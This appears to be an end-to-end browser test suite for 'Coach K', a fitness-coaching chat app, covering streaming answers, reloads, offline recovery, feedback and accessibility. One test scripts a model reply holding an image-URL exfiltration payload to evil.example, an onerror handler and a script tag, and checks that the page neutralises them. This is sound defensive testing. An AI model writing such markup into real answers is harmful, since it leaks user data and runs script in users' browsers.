import fs from 'node:fs';
import path from 'node:path';
import { AxeBuilder } from '@axe-core/playwright';
import { afterAll, beforeAll, beforeEach, expect, test } from '@jest/globals';
import pg from 'pg';
import { chromium, type Browser, type BrowserContext, type Page } from 'playwright-core';
import { eventually, startCoach, type CoachStack } from '../../../tools/local/test/coach-stack.ts';
import { findChromium } from '../../../tools/local/system.ts';

const ARTEFACTS = path.resolve(import.meta.dirname, '../../../test-artefacts');
const PHONE = { viewport: { width: 390, height: 844 }, hasTouch: true, isMobile: true, deviceScaleFactor: 2 };
const QUIET = ['--disable-background-networking', '--disable-component-update', '--disable-sync', '--no-first-run', '--disable-quic'];

let coach: CoachStack;
let owner: pg.Pool;
let browser: Browser;
let context: BrowserContext;
let page: Page;
let problems: string[];

beforeAll(async () => {
  fs.mkdirSync(ARTEFACTS, { recursive: true });
  coach = await startCoach({ web: true });
  owner = new pg.Pool({ connectionString: coach.stack.databaseUrl('postgres'), max: 1 });
  const executablePath = findChromium({ searchPath: process.env['PATH'], override: process.env['CHROMIUM_BIN'] });
  browser = await chromium.launch({ executablePath, args: [...QUIET, ...(process.getuid?.() === 0 ? ['--no-sandbox'] : [])] });
}, 240_000);
afterAll(async () => {
  await browser?.close();
  await owner?.end();
  await coach?.close();
}, 60_000);
beforeEach(async () => {
  await coach.standIn('faults', { plan: [] });
  await coach.standIn('mode', { mode: 'extractive', firstTokenMs: 60, tokensPerSecond: 400 });
});

async function open(device: object): Promise<void> {
  await context?.close();
  context = await browser.newContext({ ...device, colorScheme: 'dark', reducedMotion: 'reduce' });
  page = await context.newPage();
  problems = [];
  page.on('pageerror', (error) => problems.push(error.message));
  page.on('request', (request) => new URL(request.url()).origin === coach.stack.urls.web || problems.push(`external: ${request.url()}`));
  await page.goto(coach.stack.urls.web);
}
const shot = (name: string) => page.screenshot({ path: path.join(ARTEFACTS, `${name}.png`) });

async function signIn(email: string, password: string): Promise<void> {
  await page.getByLabel('E-mail').fill(email);
  await page.getByLabel('Password', { exact: true }).fill(password);
  await page.getByRole('button', { name: 'Sign in', exact: true }).click();
  await pastOnboarding();
}
/** A newcomer is led to the first form; these journeys are about the chat. */
async function pastOnboarding(): Promise<void> {
  const skip = page.getByRole('button', { name: 'Skip for now' });
  const composer = page.getByLabel('Message to Coach K');
  await skip.or(composer).first().waitFor();
  if (await skip.isVisible()) await skip.click();
  await composer.waitFor();
}
const signInAsDemo = () => signIn('demo@hyrox.local', coach.stack.keys.accountPasswords['demo@hyrox.local']);

async function ask(question: string): Promise<void> {
  await page.getByLabel('Message to Coach K').fill(question);
  await page.getByRole('button', { name: 'Send' }).click();
  await page.getByRole('button', { name: 'Stop the answer' }).waitFor();
}
const thread = () => page.getByRole('log');
const answered = async () => {
  await page.getByRole('button', { name: 'Answer again' }).waitFor({ timeout: 40_000 });
  await page.getByRole('button', { name: 'Stop the answer' }).waitFor({ state: 'hidden', timeout: 40_000 });
};
const lastStored = async () =>
  (
    (await owner.query(`select content from messages where role = 'assistant' order by seq desc limit 1`)).rows[0] as
      { content: string } | undefined
  )?.content ?? '';
// Letters only: a number at the start of a line is a list marker once it is rendered.
const plain = (text: string) => text.replace(/[^\p{L}]+/gu, '');
const accessible = async () => (await new AxeBuilder({ page }).analyze()).violations.map((violation) => violation.id);

test('on a phone: sign in as the demo athlete, ask, read the answer as it comes, open a source', async () => {
  await open(PHONE);
  await page.getByLabel('E-mail').waitFor();
  await shot('phone-sign-in');
  expect(await accessible()).toEqual([]);
  await signInAsDemo();
  await shot('phone-empty');
  await ask("What's the best sled push technique?");
  await thread()
    .getByText(/152 kg/)
    .first()
    .waitFor();
  await answered();
  await shot('phone-answer');
  expect(await accessible()).toEqual([]);
  await thread()
    .getByRole('button', { name: /^Source \d+: / })
    .first()
    .click();
  await page.getByRole('region', { name: 'Passage' }).locator('mark').first().waitFor();
  await shot('phone-source');
  expect(await accessible()).toEqual([]);
  expect(problems).toEqual([]);
});

test('on a phone: a reload in mid-answer goes on where it was, and the whole text is there', async () => {
  await open(PHONE);
  await signInAsDemo();
  await coach.standIn('mode', { mode: 'scripted', script: { generate: { tokens: 420 } }, tokensPerSecond: 90 });
  await ask('Tell me a long story about lunges');
  await eventually('text flows', async () => ((await thread().textContent()) ?? '').length > 400);
  await page.reload();
  await shot('phone-after-reload');
  await answered();
  await eventually('the page shows what is stored', async () =>
    plain((await thread().textContent()) ?? '').includes(plain(await lastStored())),
  );
  expect(problems).toEqual([]);
});

test('on a phone: a lost network in mid-answer is said quietly, and nothing is lost', async () => {
  await open(PHONE);
  await signInAsDemo();
  await coach.standIn('mode', { mode: 'scripted', script: { generate: { tokens: 500 } }, tokensPerSecond: 90 });
  await ask('Tell me about the row');
  await eventually('text flows', async () => ((await thread().textContent()) ?? '').length > 300);
  await context.setOffline(true);
  await page
    .getByText(/nothing is lost/i)
    .first()
    .waitFor();
  await shot('phone-offline');
  await context.setOffline(false);
  await answered();
  await eventually('the page shows what is stored', async () =>
    plain((await thread().textContent()) ?? '').includes(plain(await lastStored())),
  );
  expect(problems).toEqual([]);
});

test('on a phone: a cold model says that it is warming up', async () => {
  await open(PHONE);
  await signInAsDemo();
  await coach.standIn('faults', { plan: [{ fault: '503', retryAfterS: 4, times: 1 }] });
  await ask('How long is the row?');
  await page
    .getByText(/warming up/i)
    .first()
    .waitFor({ timeout: 10_000 });
  await shot('phone-warming');
  await answered();
  expect(problems).toEqual([]);
});

test('on a phone: a thumb with a reason is still there after a reload, and a second tap takes it back', async () => {
  await open(PHONE);
  await signInAsDemo();
  await ask('How do I break up 100 wall balls?');
  await answered();
  await page.getByRole('button', { name: 'Good answer' }).click();
  await page.getByRole('checkbox', { name: 'Specific numbers' }).check();
  await page.getByLabel('Anything else about this answer').fill('The sets helped');
  await shot('phone-feedback');
  expect(await accessible()).toEqual([]);
  await page.getByRole('button', { name: 'Done' }).click();
  const stored = async () =>
    (await owner.query('select rating, reasons, comment from message_feedback order by updated_at desc limit 1')).rows;
  await eventually('the reasons are stored', async () => JSON.stringify(await stored()).includes('The sets helped'));
  expect(await stored()).toEqual([{ rating: 1, reasons: ['specific'], comment: 'The sets helped' }]);
  await page.reload();
  const thumb = page.getByRole('button', { name: 'Good answer' });
  await thumb.waitFor();
  expect(await thumb.getAttribute('aria-pressed')).toBe('true');
  await thumb.click();
  await eventually('the thumb is taken back', async () => (await thumb.getAttribute('aria-pressed')) === 'false');
  expect(problems).toEqual([]);
});

test('on a phone: answer again and edit take the place of what was there, also after a reload', async () => {
  await open(PHONE);
  await signInAsDemo();
  await ask('How heavy is the sled?');
  await answered();
  await ask('How long is the row?');
  await answered();
  await page.getByRole('button', { name: 'Answer again' }).click();
  await page.getByRole('button', { name: 'Stop the answer' }).waitFor();
  await answered();
  const own = () => thread().getByRole('heading', { name: 'You' }).count();
  expect(await own()).toBe(2);
  await page.getByRole('button', { name: 'Edit message' }).first().click();
  await page.getByText('The answer and the later message below are replaced').waitFor();
  await shot('phone-edit');
  expect(await accessible()).toEqual([]);
  await page.keyboard.press('Escape');
  await page.getByRole('button', { name: 'Edit message' }).first().click();
  await page.getByLabel('Edit your message').fill('How heavy is the sandbag?');
  await page.getByRole('button', { name: 'Send again' }).click();
  await eventually('what is replaced is gone at once', async () => (await own()) === 1);
  await answered();
  await page.reload();
  await thread().getByText('How heavy is the sandbag?').waitFor();
  await answered();
  expect([await own(), await thread().getByText('How heavy is the sled?').count()]).toEqual([1, 0]);
  expect(problems).toEqual([]);
});

test('on a phone: a message that was on its way when the page was closed is sent once it is open again', async () => {
  await open(PHONE);
  await signInAsDemo();
  await page.route('**/api/turns', (route) => route.abort());
  await ask('How long are the lunges?');
  await page.getByText('Reconnecting, nothing is lost').first().waitFor();
  await page.unroute('**/api/turns');
  await page.reload();
  await answered();
  expect(await thread().getByText('How long are the lunges?').count()).toBe(1);
  const asked = await owner.query(`select count(*)::int as times from messages where content = 'How long are the lunges?'`);
  expect(asked.rows).toEqual([{ times: 1 }]);
  expect(problems).toEqual([]);
});

test('on a phone: too many messages are answered with a countdown, and the message is back in the box', async () => {
  await open(PHONE);
  await signInAsDemo();
  const error = { code: 'rate_limited', message: 'Ten messages a minute are the limit.', retryable: true, requestId: 'r' };
  await page.route('**/api/turns', (route) => route.fulfill({ status: 429, headers: { 'retry-after': '10' }, json: { error } }), {
    times: 1,
  });
  await page.getByLabel('Message to Coach K').fill('One more question');
  await page.getByRole('button', { name: 'Send' }).click();
  await page.getByText(error.message).first().waitFor();
  expect(await page.getByLabel('Message to Coach K').inputValue()).toBe('One more question');
  await page.getByRole('button', { name: /^Try again in/ }).waitFor();
  await shot('phone-limited');
  await page.getByRole('button', { name: 'Try again', exact: true }).click();
  await answered();
  expect(problems).toEqual([]);
});

test('G01, G03, G04: what a model writes fetches nothing, becomes no element, and asks before it leads away', async () => {
  await open(PHONE);
  await signInAsDemo();
  const attack =
    'Look ![pixel](https://evil.example/p.png?q=CANARY) <img src="https://evil.example/i.png" onerror="document.title=1"> <script>document.title=1</script> and [the rules](https://rules.example/?q=CANARY).';
  await coach.standIn('mode', { mode: 'scripted', script: [attack], tokensPerSecond: 60 });
  await ask('Show me the rules');
  await answered();
  expect(await thread().locator('img, script, iframe, svg image').count()).toBe(0);
  await thread().getByRole('link', { name: 'the rules (rules.example)' }).click();
  await page.getByRole('dialog', { name: 'Leave for rules.example?' }).waitFor();
  await shot('phone-leave');
  expect(await accessible()).toEqual([]);
  await page.getByRole('button', { name: 'Stay here' }).click();
  expect(await page.title()).toContain('Coach K');
  expect(problems).toEqual([]);
});

test('with the keyboard alone: ask, bring the last message back with the arrow up, leave it with Escape, change it', async () => {
  await open({ viewport: { width: 1440, height: 900 } });
  await signInAsDemo();
  const composer = page.getByLabel('Message to Coach K');
  await composer.focus();
  await page.keyboard.type('How heavy are the wall balls?');
  await page.keyboard.press('Enter');
  await answered();
  await composer.focus();
  await page.keyboard.press('ArrowUp');
  const editor = page.getByLabel('Edit your message');
  await eventually('the editor has the focus', () => editor.evaluate((input) => input === document.activeElement));
  await page.keyboard.press('Escape');
  await eventually('the pencil has it back', () =>
    page.getByRole('button', { name: 'Edit message' }).evaluate((pencil) => pencil === document.activeElement),
  );
  await page.keyboard.press('Enter');
  await editor.fill('How heavy are the wall balls for Pro women?');
  await page.keyboard.press('Enter');
  await page.getByRole('button', { name: 'Stop the answer' }).waitFor();
  await answered();
  expect(await thread().getByRole('heading', { name: 'You' }).count()).toBe(1);
  expect(problems).toEqual([]);
});

test('two devices: a question asked on one is seen and answered live on the other', async () => {
  await open(PHONE);
  await signInAsDemo();
  await ask('How do I pace run 1?');
  await answered();
  const other = await context.newPage();
  await other.goto(page.url());
  await other.getByText('How do I pace run 1?').first().waitFor();
  await coach.standIn('mode', { mode: 'scripted', script: { generate: { tokens: 400 } }, tokensPerSecond: 90 });
  await ask('And run 8?');
  const otherThread = other.getByRole('log');
  await otherThread.getByText('And run 8?').waitFor();
  await otherThread.locator('article[aria-busy=true]').waitFor();
  await answered();
  await eventually('both devices show the same', async () => (await otherThread.textContent()) === (await thread().textContent()));
  expect(problems).toEqual([]);
});

test('on a desktop: sign up, ask, stop, find the conversation again after a reload', async () => {
  await open({ viewport: { width: 1440, height: 900 } });
  await page.getByRole('button', { name: 'Create an account' }).click();
  await page.getByLabel('E-mail').fill(`new-${crypto.randomUUID()}@example.org`);
  await page.getByLabel('Password', { exact: true }).fill(crypto.randomUUID());
  await page.getByRole('button', { name: 'Create account', exact: true }).click();
  await pastOnboarding();
  await shot('desktop-empty');
  await coach.standIn('mode', { mode: 'scripted', script: { generate: { tokens: 900 } }, tokensPerSecond: 120 });
  await ask('Never stop talking');
  await eventually('text flows', async () => ((await thread().textContent()) ?? '').length > 300);
  await page.getByRole('button', { name: 'Stop the answer' }).click();
  await page.getByText('Stopped by you').waitFor();
  await coach.standIn('mode', { mode: 'extractive', tokensPerSecond: 400 });
  await ask('How should I pace my 1km runs between stations?');
  await answered();
  await shot('desktop-answer');
  expect(await accessible()).toEqual([]);
  await thread()
    .getByRole('button', { name: /^Source \d+: / })
    .first()
    .click();
  await page.getByRole('complementary', { name: 'Sources' }).getByRole('region', { name: 'Passage' }).waitFor();
  await shot('desktop-sources');
  expect(await accessible()).toEqual([]);
  await page.keyboard.press('Escape');
  await page.reload();
  await thread().getByText('Never stop talking').waitFor();
  await page
    .getByRole('link', { name: /Never stop talking/ })
    .first()
    .waitFor();
  await shot('desktop-after-reload');
  expect(problems).toEqual([]);
});
